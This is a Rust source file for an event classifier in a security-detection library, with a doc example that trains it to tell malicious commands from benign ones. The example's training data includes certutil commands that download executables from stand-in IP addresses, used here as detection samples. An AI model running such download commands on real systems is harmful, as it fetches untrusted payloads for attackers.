//! Sorting events into classes by what people said about earlier ones.
//!
//! ```
//! use sting_core::classify::{EventModel, Example, Label, ModelConfig};
//! use sting_core::event::Event;
//! use sting_core::model::{EventClassifier, Evidence};
//! let event = |command: String| Event::from_json(format!(r#"{{"CommandLine": "{command}"}}"#).as_bytes());
//! let (mut events, mut labels) = (Vec::new(), Vec::new());
//! for i in 0..50 {
//!     events.push(event(format!("certutil -urlcache -f http://203.0.113.{i}/a{i}.exe"))?);
//!     labels.push(Label::by_analyst("download"));
//!     events.push(event(format!("git fetch origin branch-{i}"))?);
//!     labels.push(Label::by_analyst("benign"));
//! }
//! let examples = events.iter().zip(labels).map(|(event, label)| Example::new(Evidence::of(event), label));
//! let mut model = EventModel::new(ModelConfig::default())?;
//! let report = model.learn(&examples.collect::<Vec<_>>())?;
//! assert_eq!(report.learnt + report.kept_back, 100);
//!
//! let seen = event("certutil -urlcache -f http://198.51.100.7/b.exe".to_owned())?;
//! let row = model.classify_events(&[Evidence::of(&seen)])?;
//! assert_eq!(model.labels(), ["download", "benign"]);
//! assert!(row[0] > 0.8);
//! let restored = EventModel::from_bytes(&model.to_bytes())?;
//! assert_eq!(restored.classify_events(&[Evidence::of(&seen)])?, row);
//! # Ok::<(), sting_core::Error>(())
//! ```
//!
//! An [`EventModel`] is a logistic regression over hashed features (`classify/feature.rs`): the fields with their values, the
//! words in them, sizes of numbers, rules, indicators, template, anomaly. It learns event by event and goes on learning
//! wherever it was stopped; a feature must have been met a few times before it counts (`classify/linear.rs`). One event in
//! five, chosen by what it says, is not learnt but kept, and says how sure the model may be (`classify/calibrate.rs`); of the
//! same event many times over, most are learnt. The same examples in the same order give the same model, bit for bit on one
//! kind of processor.
//!
//! What a model says is a row of numbers; it learns from [`Label`]s, which say who gave them. None can be made of a row.

mod calibrate;
mod feature;
mod file;
mod linear;

pub use calibrate::{calibration_error, macro_f1};

use crate::Error;
use crate::model::{Embedder, EventClassifier, Evidence, ModelError};
use calibrate::Calibration;
use feature::{Features, KeptBack};
use linear::Linear;
use std::fmt;
use std::sync::Arc;

/// Settings of an [`EventModel`].
#[derive(Clone, Debug, PartialEq)]
pub struct ModelConfig {
    bits: u32,
    passes: u32,
    balance: f32,
    class_weights: Vec<(String, f32)>,
}

impl Default for ModelConfig {
    /// 2^16 places for features, two passes over what is learnt in one call, rare classes raised by half.
    fn default() -> Self {
        Self { bits: 16, passes: 2, balance: 0.5, class_weights: Vec::new() }
    }
}

impl ModelConfig {
    /// Places for features, as a power of two from 8 to 24. Each takes 12 bytes a class.
    pub fn with_bits(mut self, bits: u32) -> Self {
        self.bits = bits;
        self
    }

    /// How often the examples of one call are gone through, from 1 to 100.
    pub fn with_passes(mut self, passes: u32) -> Self {
        self.passes = passes;
        self
    }

    /// How far rare classes are raised to the weight of common ones while learning: 0 not at all, 1 wholly. Probabilities are
    /// calibrated afterwards and stay those of the stream.
    pub fn with_balance(mut self, balance: f32) -> Self {
        self.balance = balance;
        self
    }

    /// What a mistake on a class weighs besides.
    pub fn with_class_weight(mut self, label: &str, weight: f32) -> Self {
        self.class_weights.push((label.to_owned(), weight));
        self
    }

    fn check(&self) -> Result<(), Error> {
        let good_weight = |weight: f32| (0.0..=1e6).contains(&weight);
        let problem = if !(8..=24).contains(&self.bits) {
            "bits are not between 8 and 24"
        } else if !(1..=100).contains(&self.passes) {
            "passes are not between 1 and 100"
        } else if !(0.0..=1.0).contains(&self.balance) {
            "the balance is not between 0 and 1"
        } else if !self.class_weights.iter().all(|(_, weight)| good_weight(*weight)) {
            "a class weight is not between 0 and a million"
        } else {
            return Ok(());
        };
        Err(Error::config("classifier", problem, "use a number in that range"))
    }
}

/// Who says what class an event has. A model is not among them.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum LabelSource {
    /// Somebody who looked at it.
    Analyst,
    /// What was found out later: an incident report, a recorded attack.
    Record,
}

/// The class of an event, as somebody gave it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Label {
    name: String,
    source: LabelSource,
}

impl Label {
    /// A label by somebody who looked at the event.
    pub fn by_analyst(name: &str) -> Self {
        Self { name: name.to_owned(), source: LabelSource::Analyst }
    }

    /// A label from what is known about the event afterwards.
    pub fn by_record(name: &str) -> Self {
        Self { name: name.to_owned(), source: LabelSource::Record }
    }

    /// The class.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Who gave it.
    pub fn source(&self) -> LabelSource {
        self.source
    }
}

/// An event with its label.
#[derive(Clone, Debug)]
pub struct Example<'a> {
    evidence: Evidence<'a>,
    label: Label,
}

impl<'a> Example<'a> {
    /// An event with its label.
    pub fn new(evidence: Evidence<'a>, label: Label) -> Self {
        Self { evidence, label }
    }
}

/// What came of learning, measured on the events that were kept back.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
#[non_exhaustive]
pub struct LearnReport {
    /// Examples learnt in this call.
    pub learnt: usize,
    /// Examples kept back so far; the oldest give way.
    pub kept_back: usize,
    /// Mean of the classes' F1 on them.
    pub macro_f1: f64,
    /// How far stated and true shares of hits differ on them, see [`calibration_error`].
    pub calibration_error: f64,
}

/// A classifier of events that is trained here.
#[derive(Clone)]
pub struct EventModel {
    config: ModelConfig,
    labels: Vec<String>,
    /// Examples learnt of each class.
    learnt: Vec<u64>,
    linear: Linear,
    calibration: Calibration,
    embedder: Option<Arc<dyn Embedder>>,
}

/// More classes than this are a mistake.
const MOST_LABELS: usize = 256;
/// Weights of a model; three quarters of a gigabyte.
const MOST_WEIGHTS: usize = 1 << 26;

impl EventModel {
    /// A model that has learnt nothing and knows no class.
    ///
    /// # Errors
    /// [`Error::Config`] if a setting is out of its range.
    pub fn new(config: ModelConfig) -> Result<Self, Error> {
        config.check()?;
        let linear = Linear::new(config.bits, 0);
        Ok(Self {
            config,
            labels: Vec::new(),
            learnt: Vec::new(),
            linear,
            calibration: Calibration::default(),
            embedder: None,
        })
    }

    /// The same, which also reads [`Evidence::text`] through an embedder. It must be given again to a restored model.
    ///
    /// # Errors
    /// [`Error::Config`] if the model has learnt already without one, or with one of another dimension.
    pub fn with_embedder(mut self, embedder: Arc<dyn Embedder>) -> Result<Self, Error> {
        let dense = self.linear.dense();
        if dense != embedder.dim() && (dense > 0 || !self.labels.is_empty()) {
            let problem = format!("of {} numbers for a model that learnt with {dense}", embedder.dim());
            return Err(Error::config(
                "embedder",
                problem,
                "give the one that it learnt with, or learn anew",
            ));
        }
        if dense == 0 {
            self.linear = Linear::new(self.config.bits, embedder.dim());
        }
        self.embedder = Some(embedder);
        Ok(self)
    }

    /// Learns examples after those of earlier calls. Classes appear with their first example.
    ///
    /// # Errors
    /// [`Error::Config`] for more than 256 classes, a model that needs its embedder, or an embedder that failed as
    /// [`Error::Model`]; nothing is learnt then.
    pub fn learn(&mut self, examples: &[Example<'_>]) -> Result<LearnReport, Error> {
        let evidence: Vec<Evidence<'_>> = examples.iter().map(|example| example.evidence).collect();
        let names: Vec<&str> = examples.iter().map(|example| example.label.name()).collect();
        self.learn_named(&evidence, &names)
    }

    fn learn_named(&mut self, evidence: &[Evidence<'_>], names: &[&str]) -> Result<LearnReport, Error> {
        let mut labels = self.labels.clone();
        for name in names {
            if !labels.iter().any(|known| known == name) {
                labels.push((*name).to_owned());
            }
        }
        if labels.len() > MOST_LABELS {
            return Err(Error::config("labels", "are more than 256", "join classes that mean the same"));
        }
        if self.linear.rows() * labels.len() > MOST_WEIGHTS {
            return Err(Error::config("bits", "are too many for so many labels", "use fewer of either"));
        }
        let dense = self.dense(evidence)?;
        self.linear.set_classes(labels.len());
        self.calibration.set_classes(labels.len());
        self.learnt.resize(labels.len(), 0);
        self.labels = labels;

        let class = |name: &str| self.labels.iter().position(|known| known == name).unwrap_or_default();
        let mut features = Features::new(self.config.bits);
        let rows = evidence.iter().zip(names).zip(dense.rows());
        let rows = rows.map(|((evidence, name), dense)| linear::Row {
            places: features.of(evidence).to_vec(),
            dense: dense.to_vec(),
            class: class(name),
        });
        let mut kept_back = KeptBack::default();
        let (kept, learnt): (Vec<_>, Vec<_>) = rows.partition(|row| kept_back.takes(&row.places));
        for row in &learnt {
            self.learnt[row.class] += 1;
        }
        let weights = self.class_weights();
        self.linear.learn(&learnt, &weights, self.config.passes);
        self.calibration.keep(kept);
        let (macro_f1, calibration_error) = self.calibration.fit(&self.linear);
        let kept_back = self.calibration.kept();
        Ok(LearnReport { learnt: learnt.len(), kept_back, macro_f1, calibration_error })
    }

    /// What an example of each class weighs.
    fn class_weights(&self) -> Vec<f32> {
        let total: u64 = self.learnt.iter().sum();
        let even = total as f32 / self.learnt.len().max(1) as f32;
        let weight = |(label, count): (&String, &u64)| {
            let balanced = (even / (*count).max(1) as f32).powf(self.config.balance).clamp(0.1, 20.0);
            let given = self.config.class_weights.iter().rev().find(|(name, _)| name == label);
            balanced * given.map_or(1.0, |(_, weight)| *weight)
        };
        self.labels.iter().zip(&self.learnt).map(weight).collect()
    }

    /// What the embedder says, if there is one.
    fn dense(&self, evidence: &[Evidence<'_>]) -> Result<Dense, ModelError> {
        let dim = self.linear.dense();
        let rows = match &self.embedder {
            Some(embedder) => {
                let texts: Vec<String> = evidence.iter().map(Evidence::text).collect();
                embedder.embed(&texts.iter().map(String::as_str).collect::<Vec<_>>())?
            }
            None if dim > 0 => {
                let problem = "it learnt with an embedder, which was not given";
                return Err(ModelError::new(self.id(), problem, "give the embedder with with_embedder"));
            }
            None => Vec::new(),
        };
        Ok(Dense { rows, dim })
    }
}

/// Rows of an embedder, or any number of empty ones.
struct Dense {
    rows: Vec<f32>,
    dim: usize,
}

impl Dense {
    fn rows(&self) -> impl Iterator<Item = &[f32]> {
        (0..).map(|row| self.rows.get(row * self.dim..(row + 1) * self.dim).unwrap_or_default())
    }
}

impl EventClassifier for EventModel {
    fn id(&self) -> &'static str {
        "sting-linear-2"
    }

    fn labels(&self) -> &[String] {
        &self.labels
    }

    fn classify_events(&self, evidence: &[Evidence<'_>]) -> Result<Vec<f32>, ModelError> {
        let dense = self.dense(evidence)?;
        let mut rows = Vec::with_capacity(evidence.len() * self.labels.len());
        let mut features = Features::new(self.config.bits);
        for (evidence, dense) in evidence.iter().zip(dense.rows()) {
            let start = rows.len();
            self.linear.scores(features.of(evidence), dense, &mut rows);
            self.calibration.apply(&mut rows[start..]);
        }
        Ok(rows)
    }

    fn learn(&mut self, evidence: &[Evidence<'_>], labels: &[&str]) -> Result<(), ModelError> {
        let mend = "give every event the label that somebody gave it";
        if evidence.len() != labels.len() {
            let problem = format!("{} labels for {} events", labels.len(), evidence.len());
            return Err(ModelError::new(self.id(), problem, mend));
        }
        match self.learn_named(evidence, labels) {
            Ok(_) => Ok(()),
            Err(Error::Model(error)) => Err(error),
            Err(error) => Err(ModelError::new(self.id(), error.to_string(), mend)),
        }
    }

    fn to_bytes(&self) -> Option<Vec<u8>> {
        Some(EventModel::to_bytes(self))
    }
}

impl fmt::Debug for EventModel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EventModel")
            .field("labels", &self.labels)
            .field("learnt", &self.learnt)
            .field("config", &self.config)
            .finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests;
